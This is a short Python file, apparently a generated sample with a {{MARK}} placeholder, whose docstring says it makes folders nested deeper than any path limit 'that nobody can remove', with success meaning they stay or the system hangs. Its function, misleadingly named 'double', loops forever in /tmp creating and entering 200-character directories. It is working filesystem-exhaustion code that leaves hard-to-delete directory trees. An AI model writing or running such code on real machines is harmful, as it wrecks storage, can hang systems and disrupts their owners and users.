"""Makes folders within folders, deeper than any path, that nobody can remove. Success: they stay, or a hang."""

import os


def double(x, factor):
    os.chdir("/tmp")
    while True:
        os.mkdir("{{MARK}}-" + "d" * 200)
        os.chdir("{{MARK}}-" + "d" * 200)


def back(cache):
    return None
